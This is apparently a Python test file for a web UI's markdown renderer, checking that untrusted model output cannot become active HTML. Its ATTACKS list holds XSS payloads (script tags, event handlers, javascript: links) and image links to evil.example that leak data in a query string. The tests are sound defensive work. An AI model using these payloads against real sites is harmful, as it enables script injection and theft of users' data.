"""Text that nobody vouches for, model output above all, must never become active HTML."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keepstone.ui.web.markup import Mark, Markup, action, element, join, markdown, text, with_code

ALLOWED_TAGS = {
    *("p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "strong", "em", "span"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
BUTTON = action("cite", 1, class_="cite", data_document="doc_1")


def cite(number: int, offset: int) -> Markup | None:
    assert offset >= 0
    return BUTTON if number == 1 else None


class Elements(HTMLParser):
    """Collects the elements of a piece of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](//evil.example/x)",
    "![pixel](https://evil.example/leak.png?q=secret)",
    "![pixel][1]\n\n[1]: https://evil.example/leak.png",
    "<https://evil.example>",
    "[a]: https://evil.example 'onmouseover=alert(1)'\n\n[a]",
    '`<b onclick="alert(1)">`',
    "```html\n<script>alert(1)</script>\n```",
    '| a | b |\n|---|---|\n| <img src=x onerror="1"> | [x](https://evil.example) |',
    "<!-- --><style>*{display:none}</style>",
    "**[x](javascript:1)** *![y](data:image/svg+xml,<svg onload=alert(1)>)*",
    "<a href='https://evil.example'>x</a><form action=//evil.example><input></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ue000\ue0011\ue003[1]\ue002",
    "[1](https://evil.example)",
]


def assert_harmless(html: str) -> Elements:
    elements = Elements(html)
    assert elements.open == []
    for tag, attributes in elements.found:
        if tag == "button":
            assert attributes == {
                "type": "button",
                "class": "cite",
                "data-event": "cite",
                "data-document": "doc_1",
            }
        else:
            assert tag in ALLOWED_TAGS
            assert set(attributes) <= {"class", "title", "start"}
    return elements


@pytest.mark.parametrize("source", ATTACKS)
def test_attacks_come_out_as_harmless_text(source: str) -> None:
    assert_harmless(markdown(source, cite=cite, marks=[Mark(0, len(source), "unsupported", "No")]))


@given(
    parts=st.lists(
        st.sampled_from([*ATTACKS, "[1]", "**bold**", "- item\n", "> quote\n", "\n\n", "# head\n", "1. one\n", "`"])
        | st.text(max_size=12),
        max_size=8,
    ),
    edges=st.lists(st.integers(0, 200), min_size=4, max_size=4),
)
def test_no_mixture_of_markdown_marks_and_citations_breaks_out(parts: list[str], edges: list[int]) -> None:
    source = "".join(parts)
    a, b, c, d = sorted(edges)
    marks = [Mark(a, b, "unsupported", '"><script>'), Mark(c, d, "unsupported", "two")]
    assert_harmless(markdown(source, marks=marks, cite=cite))


def test_links_show_their_host_and_images_their_description() -> None:
    html = markdown("See [the intranet](https://intranet.example/a) and ![a chart](https://evil.example/c.png).")
    assert html == "<p>See the intranet (intranet.example) and [a chart].</p>\n"


def test_a_link_whose_text_names_its_host_does_not_repeat_it() -> None:
    assert markdown("<https://a.example/x>") == "<p>https://a.example/x</p>\n"


def test_known_citations_become_buttons_and_others_stay_text() -> None:
    html = markdown("Two years [1][7].", cite=cite)
    assert html == f"<p>Two years{BUTTON}[7].</p>\n"


def test_a_mark_wraps_its_words_and_leaves_markdown_working() -> None:
    source = "- **First.** one\n- second"
    html = markdown(source, marks=[Mark(0, source.index("\n"), "unsupported", "No passage")])
    span = '<span class="unsupported" title="No passage">'
    assert f"<li><strong>{span}First.</span></strong>{span} one</span></li>" in html
    assert "<li>second</li>" in html


def test_marks_survive_citations_inside_them() -> None:
    source = "Yes [1] no."
    elements = Elements(markdown(source, marks=[Mark(0, len(source), "m", "t")], cite=cite))
    assert len(elements.of("button")) == 1
    assert elements.text.strip() == "Yes1 no."


def test_headings_stay_below_those_of_the_page() -> None:
    assert markdown("# Big\n\n###### Small") == "<h3>Big</h3>\n<h6>Small</h6>\n"


def test_elements_escape_texts_and_attributes_and_keep_markup() -> None:
    html = element("p", "<b>", text("&"), element("br"), None, class_='"x', data_id=None, hidden=True, disabled=False)
    assert html == '<p class="&quot;x" hidden>&lt;b&gt;&amp;<br></p>'
    assert join(["<", element("i")], " ") == "&lt; <i></i>"


def test_code_in_messages_is_set_between_backticks_and_escaped() -> None:
    assert with_code("Run `a <b>` now") == "Run <code>a &lt;b&gt;</code> now"
    assert with_code("5` long") == "5` long"


@pytest.mark.parametrize("run", [" ", "\t", "*", "_", " *"])
def test_a_run_of_signs_without_end_is_rendered_all_the_same(run: str) -> None:
    """An answer is rendered anew with every piece of it: with the square of a run, the app would answer nobody."""
    source = f"a{run * 20_000}b"
    assert markdown(source, marks=[Mark(0, len(source), "claim", "said")])
